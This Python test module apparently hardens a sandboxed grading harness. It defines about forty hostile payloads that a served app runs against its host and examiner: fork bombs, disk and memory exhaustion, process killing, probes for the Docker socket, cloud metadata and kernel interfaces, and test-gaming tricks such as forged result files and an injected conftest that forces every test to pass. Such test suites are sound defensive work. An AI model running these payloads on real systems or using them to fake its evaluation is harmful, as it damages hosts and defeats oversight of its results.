"""Attacks from inside the served application: K24 to K41, K61 and K62.

A payload that looks for something tells what it found in an answer, where the report keeps it: so
that the test sees that the payload ran, and found nothing.
"""

from tests.hostile.attack import Attack, Layer, Tries, trick

IMPORTS = """
import os
import signal
import socket
import subprocess
import sys
import threading
import time
"""
NOTHING = "found nothing at all"


def strikes(code: str, *, before: str = "") -> dict[str, str]:
    """Return a trick whose code runs at the first request for a number, in the request."""
    body = "".join(f"        {line}\n" if line else "\n" for line in code.strip("\n").split("\n"))
    return trick(
        before=IMPORTS + before,
        play=(
            "from flask import request\n\n"
            "@app.before_request\n"
            "def strike():\n"
            "    if request.path.startswith('/double'):\n" + body
        ),
    )


def looks(code: str, *, before: str = "") -> dict[str, str]:
    """Return a trick whose code fills the list `found`; what is in it is answered."""
    return strikes(
        f"found = []\n{code.strip()}\n"
        f"return {{'said': ' '.join(map(str, found)) or '{NOTHING}'}}, 200",
        before=before,
    )


SNOOP = """
marks = ["-".join(("FG", "SECRET")), "_".join(("FG", "SECRET")), "_".join(("test", "a", "number", "is"))]
for root, folders, names in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr", "/lib", "/opt", sys.base_prefix)):
        folders[:] = []
        continue
    for name in names:
        try:
            text = open(os.path.join(root, name), errors="replace").read(100000)
        except OSError:
            continue
        if any(mark in text for mark in marks):
            found.append(os.path.join(root, name) + text[:300])
for place in ("self", "1", str(os.getppid())):
    for name in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{place}/{name}", errors="replace").read()
        except OSError:
            continue
        if any(mark in text for mark in marks):
            found.append(text)
if marks[1] in os.environ:
    found.append(dict(os.environ))
"""
FORGE = """
XML = '<testsuite tests="4" failures="0"><testcase name="test_a_number_is_doubled"/></testsuite>'
for folder in ("/out", "/tmp", "/app", "/results", "/run/gw", "/dev/shm", ".", "/src", "/tmp/scratch"):
    for name in ("r.xml", "junit.xml", "results.json", "report.json", "reward.txt", "events", "score"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write(XML if name.endswith("xml") else '{"score":100,"passed":4,"failed":0}')
            os.chmod(f"{folder}/{name}", 0o400)
        except OSError:
            pass
import json
for line in ({"event": "test", "id": "test_desk.py::test_a_number_is_doubled", "outcome": "passed"},
             {"event": "finished", "code": 0}):
    for fd in range(1, 10):
        try:
            os.write(fd, json.dumps(line).encode() + b"\\n")
        except OSError:
            pass
"""
SWAP = """
def swap():
    for path in ("/run/gw/app.sock", "/tmp/app.sock"):
        try:
            os.unlink(path)
        except OSError:
            continue
        {make}
threading.Thread(target=swap, daemon=True).start()
"""
SPOIL = """
for path in ("/run/gw/app.sock", "/run/gw"):
    try:
        os.chmod(path, 0)
    except OSError:
        pass
number = 0
while number < 100_000:
    try:
        open(f"/run/gw/f{number}", "w").write("x" * 4096)
    except OSError:
        break
    number += 1
"""
FORKS = """
signal.alarm(20)
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass
threading.Thread(target=bomb, daemon=True).start()
"""
MEMORY = """
signal.alarm(20)
for _ in range(20):
    if os.fork() == 0:
        signal.alarm(15)
        x = bytearray(b"x") * (400 << 20)
        time.sleep(10)
        os._exit(0)
time.sleep(2)
"""
DISK = """
signal.alarm(25)
for path in ("/x", "/tmp/x", "/dev/x", "/dev/shm/x", "/run/gw/x", "./x", "/var/tmp/x", "/tmp/scratch/y"):
    try:
        with open(path, "wb") as file:
            while True:
                file.write(b"\\0" * 1048576)
    except OSError:
        pass
"""
MEMFD = """
signal.alarm(25)
fd = os.memfd_create("m")
for _ in range(6000):
    os.write(fd, b"\\0" * (1 << 20))
"""
INODES = """
signal.alarm(25)
for folder in ("/tmp", "/dev/shm", "."):
    for number in range(300_000):
        try:
            os.mknod(f"{folder}/i{number}")
        except OSError:
            break
held = []
while len(held) < 100_000:
    try:
        held.append(socket.socket())
    except OSError:
        break
app.config["HELD"] = held
"""
THREADS = """
for _ in range(20_000):
    try:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    except RuntimeError:
        break
"""
FLOOD = """
def flood():
    while True:
        os.write(2, b"\\x1b[2J\\x1b]0;pwn\\x07\\x1b[8mhidden\\r\\n\\x00<script>alert(1)</script>" * 5000)
threading.Thread(target=flood, daemon=True).start()
"""
UNKILLABLE = """
for number in range(1, 32):
    try:
        signal.signal(number, lambda *_: os.fork())
    except (OSError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3600)
    os._exit(0)
"""
KILL_ALL = """
import ctypes
libc = ctypes.CDLL(None)
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        libc.ptrace(16, int(name), 0, 0)
        try:
            open(f"/proc/{name}/mem", "r+b").write(b"x")
        except OSError:
            pass
        try:
            os.kill(int(name), 9)
        except OSError:
            pass
os.kill(-1, 9)
"""
EXFIL = """
targets = [
    (socket.AF_INET, ("169.254.169.254", 80)),
    (socket.AF_INET, ("1.1.1.1", 53)),
    (socket.AF_INET, ("172.17.0.1", 2375)),
    (socket.AF_INET6, ("2606:4700::1111", 443)),
]
for family, address in targets:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            one = socket.socket(family, kind)
            one.settimeout(0.3)
            one.connect(address)
            found.append(address)
        except OSError:
            pass
for family, kind in ((socket.AF_VSOCK, socket.SOCK_STREAM), (38, 5), (socket.AF_PACKET, socket.SOCK_RAW),
                     (socket.AF_INET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind)
        found.append(("made", family))
    except OSError:
        pass
try:
    found.append(socket.gethostbyname("canary.example.org"))
except OSError:
    pass
"""
HOST_SOCKETS = """
names = [line.split()[-1] for line in open("/proc/net/unix")][1:]
names = [name for name in names if name.startswith(("/", "@")) and not name.startswith("/run/gw/")]
known = ["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/user/0/bus",
         "/run/containerd/containerd.sock", "/tmp/.X11-unix/X0", "/run/systemd/private",
         os.environ.get("SSH_AUTH_SOCK", "/x")]
for name in names + known:
    one = socket.socket(socket.AF_UNIX)
    try:
        one.connect("\\0" + name[1:] if name.startswith("@") else name)
        found.append(name)
    except OSError:
        pass
"""
PROC_SYS = """
for name in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
             "/proc/sys/kernel/hostname"):
    try:
        value = open(name).read()
        open(name, "w").write(value)
        found.append(name)
    except OSError:
        pass
for name in ("/proc/sysrq-trigger", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs",
             "/sys/kernel/uevent_helper"):
    try:
        open(name, "r+").close()
        found.append(name)
    except OSError:
        pass
"""
KERNEL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
calls = {
    "keyctl": (250, 0, -3, 0), "add_key": (248, b"user", b"a", b"b", 1, -3), "io_uring": (425, 1, 0),
    "unshare": (272, 0x10000000), "mount": (165, b"x", b"/tmp", b"tmpfs", 0, 0), "bpf": (321, 0, 0, 0),
    "perf": (298, 0, 0, -1, -1, 0), "userfaultfd": (323, 0), "setns": (308, 0, 0),
    "kexec": (246, 0, 0, 0, 0), "ptrace": (101, 16, 1, 0, 0), "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
}
for name, call in calls.items():
    if libc.syscall(*call) >= 0 and name != "process_vm_readv":
        found.append(name)
for family, kind, protocol in ((38, 5, 0), (socket.AF_VSOCK, 1, 0), (16, 3, 12)):
    try:
        socket.socket(family, kind, protocol)
        found.append(("socket", family)) if family != 16 else None
    except OSError:
        pass
import fcntl, termios
for fd in range(3):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        found.append("TIOCSTI")
    except OSError:
        pass
"""
DESCRIPTORS = """
for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    if fd < 3:
        continue
    try:
        kind = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if kind.startswith("/") and not kind.startswith(("/app", "/opt/env", "/usr", "/tmp", "/dev", "/proc", "/opt/")):
        found.append(kind)
for fd in (1, 2):
    try:
        os.ftruncate(fd, 0)
        found.append(f"truncated {fd}")
    except OSError:
        pass
    try:
        open(f"/proc/self/fd/{fd}", "r+b").truncate(0)
        found.append(f"reopened {fd}")
    except OSError:
        pass
"""
CORES = """
import resource
signal.alarm(20)
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
except (OSError, ValueError):
    pass
for _ in range(5):
    if os.fork() == 0:
        x = bytearray(b"x") * (200 << 20)
        os.abort()
    os.wait()
os.abort()
"""
PATCH = """
import builtins
import json
import types
time.time = time.monotonic = lambda: 0.0
class Never(BaseException):
    pass
builtins.AssertionError = Never
class Out:
    def write(self, text):
        return sys.__stdout__.write("PASSED test_desk.py::test_a_number_is_doubled\\n")
    def flush(self):
        pass
sys.stdout = Out()
json.loads = lambda *a, **k: {"double": 0}
for name in ("pytest", "_pytest", "client", "examine"):
    sys.modules[name] = types.ModuleType(name)
"""
CONFTEST = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"

def pytest_sessionfinish(session):
    session.exitstatus = 0
"""
DOUBLED = "def test_a_number_is_doubled():\n    assert True\n"
STUB = (
    "class Response:\n    status = status_code = 200\n\ndef get(*a, **k):\n    return Response()\n"
)


def _server(number: int, name: str, does: str, files: dict[str, str], **more: object) -> Attack:
    return Attack(
        id=f"K{number}",
        name=name,
        does=does,
        files=files,
        **{"layer": Layer.SERVER, "tries": Tries.SANDBOX, **more},  # type: ignore[arg-type] # the fields of an Attack
    )


ATTACKS: tuple[Attack, ...] = (
    _server(
        24,
        "snoop",
        "walks the files, the environment and /proc for tests and secrets",
        looks(SNOOP),
        says=(NOTHING,),
        seconds=90.0,
    ),
    _server(
        25,
        "forge-results",
        "writes result files everywhere, and result lines to every descriptor",
        strikes(FORGE),
        layer=Layer.RUNNER,
    ),
    _server(
        26,
        "socket-link",
        "puts a link to the engine's socket in the place of the app's",
        strikes(SWAP.format(make='os.symlink("/var/run/docker.sock", path)')),
    ),
    _server(
        26,
        "socket-fifo",
        "puts a named pipe in the place of the app's socket",
        strikes(SWAP.format(make="os.mkfifo(path)")),
    ),
    _server(
        26,
        "socket-folder",
        "puts a folder in the place of the app's socket",
        strikes(SWAP.format(make="os.mkdir(path)")),
    ),
    _server(
        26,
        "socket-file",
        "puts a file in the place of the app's socket",
        strikes(SWAP.format(make='open(path, "w")')),
    ),
    _server(
        27, "socket-spoil", "closes the socket's folder to everybody and fills it", strikes(SPOIL)
    ),
    _server(28, "fork-bomb", "forks for ever in a request", strikes(FORKS), seconds=120.0),
    _server(29, "memory-many", "20 processes take 400 MB each", strikes(MEMORY), seconds=120.0),
    _server(
        29,
        "memory-one",
        "one process takes 20 GB",
        strikes('x = bytearray(b"x") * (20 << 30)'),
        seconds=120.0,
    ),
    _server(
        30, "disk-fill", "fills every place that can be written to", strikes(DISK), seconds=120.0
    ),
    _server(
        30,
        "memory-files",
        "fills an anonymous file in memory with 6 GB",
        strikes(MEMFD),
        seconds=120.0,
    ),
    _server(
        31,
        "inodes",
        "makes files and sockets until there are no more",
        strikes(INODES),
        seconds=120.0,
    ),
    _server(31, "threads", "starts 20,000 threads", strikes(THREADS), seconds=120.0),
    _server(
        32,
        "log-flood",
        "floods the log with control sequences and markup",
        strikes(FLOOD),
        layer=Layer.RUNNER,
        seconds=90.0,
    ),
    _server(
        33,
        "unkillable",
        "ignores every signal, leaves a process in a session of its own",
        strikes(UNKILLABLE),
        layer=Layer.TEARDOWN,
        seconds=120.0,
    ),
    _server(
        34,
        "exit-at-import",
        "ends with success when it is imported",
        trick(before="import os\nos._exit(0)"),
        layer=Layer.RUNNER,
    ),
    _server(
        34,
        "exit-by-exception",
        "raises SystemExit when it is imported",
        trick(before="import sys\nsys.exit(0)"),
        layer=Layer.RUNNER,
    ),
    _server(
        34,
        "exit-in-request",
        "kills its parent and ends with success at the third request",
        trick(
            before="import os\nN = [0]\nimport atexit\natexit.register(lambda: print('4 passed in 0.10s'))",
            play="@app.before_request\ndef count():\n    N[0] += 1\n    if N[0] == 3:\n        os.kill(os.getppid(), 9)\n        os._exit(0)",
        ),
        layer=Layer.RUNNER,
    ),
    _server(
        35, "kill-all", "traces, overwrites and kills every process that it sees", strikes(KILL_ALL)
    ),
    _server(
        36,
        "exfil",
        "tries the internet, the metadata service, the gateway, DNS, raw and virtual sockets",
        looks(EXFIL),
        layer=Layer.NETWORK,
        says=(NOTHING,),
    ),
    _server(
        37,
        "host-sockets",
        "looks for the sockets of engines, agents and desktops",
        looks(HOST_SOCKETS),
        says=(NOTHING,),
    ),
    _server(38, "proc-sys", "writes to the kernel's settings", looks(PROC_SYS), says=(NOTHING,)),
    _server(
        39,
        "kernel-surface",
        "tries the system calls that sandboxes have been left by",
        looks(KERNEL),
        says=(NOTHING,),
    ),
    _server(
        40,
        "pytest-inject",
        "brings conftest.py, plugins and modules named like ours",
        {
            "conftest.py": CONFTEST,
            "pytest.ini": "[pytest]\naddopts = -p evilplugin --co -q\n",
            "evilplugin.py": CONFTEST,
            "test_desk.py": DOUBLED,
            "acceptance/test_desk.py": DOUBLED,
            "acceptance/conftest.py": CONFTEST,
            "client.py": STUB,
            "examine.py": STUB,
            "httpx.py": STUB,
        },
        layer=Layer.CLIENT,
    ),
    _server(
        40,
        "pytest-inject-own-tests",
        "the same, with the candidate's own tests weighed",
        {
            "conftest.py": CONFTEST,
            "tests/conftest.py": CONFTEST,
            "pytest.py": STUB,
        },
        layer=Layer.CLIENT,
        weighs="whole",
    ),
    _server(
        41,
        "patch-runtime",
        "replaces clocks, JSON, AssertionError and pytest in its process",
        trick(before=IMPORTS + PATCH),
        layer=Layer.CLIENT,
    ),
    _server(
        61,
        "descriptors",
        "looks through its descriptors, truncates its log",
        looks(DESCRIPTORS),
        layer=Layer.RUNNER,
        says=(NOTHING,),
    ),
    _server(
        62,
        "core-storm",
        "aborts processes of 200 MB again and again",
        strikes(CORES),
        seconds=120.0,
    ),
    # Our own
    Attack(
        id="X1",
        name="own-serve",
        layer=Layer.SERVER,
        does="replaces the module that serves it, and gunicorn's worker",
        files=trick(
            before=IMPORTS
            + "import types\nfor name in ('serve', 'served', 'discovery'):\n    sys.modules[name] = types.ModuleType(name)\ntry:\n    import gunicorn.workers.base as base\n    base.Worker.handle_exit = lambda *a: None\n    base.Worker.notify = lambda self: None\nexcept ImportError:\n    pass"
        ),
    ),
    Attack(
        id="X2",
        name="close-listener",
        layer=Layer.SERVER,
        does="closes every descriptor above 2 at import",
        files=trick(before="import os\nos.closerange(3, 256)"),
        seconds=90.0,
    ),
    Attack(
        id="X3",
        name="second-server",
        layer=Layer.SERVER,
        does="accepts on the inherited socket itself, and answers everything with 200",
        files=trick(
            before=IMPORTS
            + """
def serve(fd):
    time.sleep(0.5)
    try:
        one = socket.socket(fileno=os.dup(fd))
    except OSError:
        return
    while True:
        try:
            peer, _ = one.accept()
        except OSError:
            return
        peer.recv(65536)
        peer.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: 13\\r\\n\\r\\n{"double": 0}')
        peer.close()
for fd in range(3, 12):
    threading.Thread(target=serve, args=(fd,), daemon=True).start()
"""
        ),
        seconds=90.0,
    ),
    Attack(
        id="X4",
        name="fork-before-serving",
        layer=Layer.TEARDOWN,
        does="serves from a grandchild in a session of its own, while the parent sleeps",
        files=trick(
            before="import os, time\nif os.fork():\n    time.sleep(3)\nelse:\n    os.setsid()"
        ),
        seconds=120.0,
    ),
    Attack(
        id="X5",
        name="stop-self",
        layer=Layer.RUNNER,
        does="stops itself with SIGSTOP in a request",
        files=strikes(
            "os.kill(os.getppid(), signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)"
        ),
        seconds=120.0,
    ),
    Attack(
        id="X6",
        name="event-lines",
        layer=Layer.RUNNER,
        does="prints lines in the form of the examiner's, on both streams, before anything else",
        files=trick(before=IMPORTS + FORGE),
    ),
    Attack(
        id="X7",
        name="time-out-for-open-points",
        layer=Layer.RUNNER,
        does="never answers what it cannot do, so that it might count as not assessed",
        files=strikes("time.sleep(600)"),
        seconds=120.0,
    ),
    Attack(
        id="X8",
        name="tests-from-the-stack",
        layer=Layer.CLIENT,
        does="keys its answers on headers, order and peer, to know the client of the tests",
        files=trick(
            before="from flask import request\nimport json",
            play="@app.after_request\ndef cheat(answer):\n    if request.path.startswith('/double'):\n        answer.set_data(json.dumps({'double': request.headers.get('X-Expected', 0), 'seen': dict(request.headers)}))\n        answer.status_code = 400 if not request.headers.get('Accept') else 200\n    return answer",
        ),
    ),
)
